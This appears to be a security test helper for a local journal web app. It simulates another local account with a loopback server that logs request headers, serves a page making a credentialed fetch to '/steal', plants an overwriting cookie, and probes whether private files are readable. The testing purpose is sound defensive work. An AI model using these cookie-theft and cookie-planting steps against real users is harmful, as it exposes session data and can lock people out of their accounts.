"""Another account's program on this computer: a web server on a loopback port that keeps what it gets.

Run as `python3 tests/attacker.py HOST PORT JOURNAL_PORT [FILE ...]` (the
tests drop it to an unprivileged account first when they run as root; it
needs only the standard library). It first tries to read each FILE (the
journal's state file, the page the browser was opened on, the server's
environment) and says whether it could. Then every request's method, path
and headers are printed as one JSON line on stdout, which the test reads.
Every page it serves runs a same-origin `fetch` with credentials, the way a
real attacker's page would ask the patient's browser for whatever it holds
for this host, and tries to plant a cookie of the journal's name.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = b"""<!doctype html><html><head><meta charset="utf-8"><title>a page</title></head><body>
<p id="state">asking</p>
<script>
fetch("/steal", {credentials: "include"}).then(
  () => { document.getElementById("state").textContent = "asked"; },
  () => { document.getElementById("state").textContent = "asked"; });
</script></body></html>
"""


_OUT = threading.Lock()


def say(record: dict) -> None:
    """One JSON line, whole: requests are answered on several threads at once (a page and its fetch),
    and print() writes the text and its newline apart, so two lines could mix."""
    with _OUT:
        sys.stdout.write(json.dumps(record) + "\n")
        sys.stdout.flush()


class Keeper(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        record = {"method": "GET", "path": self.path, "headers": dict(self.headers.items())}
        say(record)
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Cache-Control", "no-store")
        # An attempt to overwrite the journal's cookie (it would lock the patient out).
        self.send_header("Set-Cookie", f"healing_journal_{sys.argv[3]}=planted.value; Path=/")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)

    def log_message(self, format: str, *args: object) -> None:
        pass  # stdout is for the records


class Server(ThreadingHTTPServer):
    daemon_threads = True


def could_read(path: str) -> bool:
    try:
        with open(path, "rb") as file:
            file.read(1)
        return True
    except OSError:
        return False


def main() -> None:
    host, port = sys.argv[1], int(sys.argv[2])
    for path in sys.argv[4:]:
        say({"read": path, "ok": could_read(path)})
    Server.address_family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with Server((host, port), Keeper) as server:
        say({"listening": f"{host}:{port}", "uid": os.getuid()})
        server.serve_forever()


if __name__ == "__main__":
    main()
